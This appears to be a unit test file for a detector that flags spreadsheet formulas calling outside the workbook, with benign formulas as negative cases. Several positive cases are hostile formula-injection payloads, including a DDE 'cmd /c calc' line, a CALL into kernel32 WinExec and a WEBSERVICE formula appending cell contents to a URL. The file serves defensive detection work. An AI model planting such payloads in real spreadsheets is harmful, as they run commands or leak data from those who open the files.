import { callsOut } from '../../../src/core/sheet/outward';

describe('callsOut', () => {
  test.each([
    ['a web service', '=WEBSERVICE("http://example.com/?"&A1)'],
    ['a web service as newer files store it', '=_xlfn.WEBSERVICE(A1)'],
    ['an image from elsewhere', '=_xlfn.IMAGE("http://example.com/a.png")'],
    ['real-time data', '=RTD("server",,"topic")'],
    ['a conversation with another program', "=cmd|'/c calc'!A0"],
    ['the same without quotes', '=MSEXCEL|Book!A0'],
    ['a call into a library', '=CALL("kernel32","WinExec","JCJ","calc",0)'],
    ['another workbook by number', '=SUM([1]Sheet1!A1:A3)'],
    ['another workbook by path', "='C:\\数据\\[2020.xlsx]专栏2'!$H$8"],
    ['another workbook on a server', "=VLOOKUP(A1,'\\\\server\\share\\[a.xlsx]表'!A:B,2,0)"],
    ['a name of another workbook', '=[1]!合计'],
    ['a link to a file', '=HYPERLINK("C:\\a.exe","打开")'],
    ['a link to a share', '=HYPERLINK("\\\\server\\share","打开")'],
    ['a link with a cell in its address', '=HYPERLINK("http://example.com/?"&A1,"打开")'],
    ['a link given by a cell', '=HYPERLINK(A1)'],
    ['lower case', '=webservice("http://example.com")'],
  ])('finds %s', (_, formula) => expect(callsOut(formula)).toBe(true));

  test.each([
    ['a sum', '=SUM(H8:L8)'],
    ['another sheet', "='专栏2 福州市'!H8+专栏1!A1"],
    ['a function of the product', '=PLAN.PROGRESS("城镇新增就业人数",IF(F6:J6="","",F6:J6))'],
    ['a link inside the workbook', '=HYPERLINK("#专栏2!A1","专栏2")'],
    ['a written-out web address', '=HYPERLINK("https://rst.fujian.gov.cn/","福建省人社厅")'],
    ['words that look like a call', '="WEBSERVICE(""a"")"&"[1]表!A1|"'],
    ['a column of a table', '=SUM(表1[完成数])/表1[[#Totals],[目标]]'],
    ['this row of a table', '=[@完成数]/[@目标]'],
    ['a sheet whose name has a bar', "='一|二'!A1"],
    ['a name that only begins like a function', '=IMAGES+CALLED(1)'],
  ])('lets %s pass', (_, formula) => expect(callsOut(formula)).toBe(false));
});
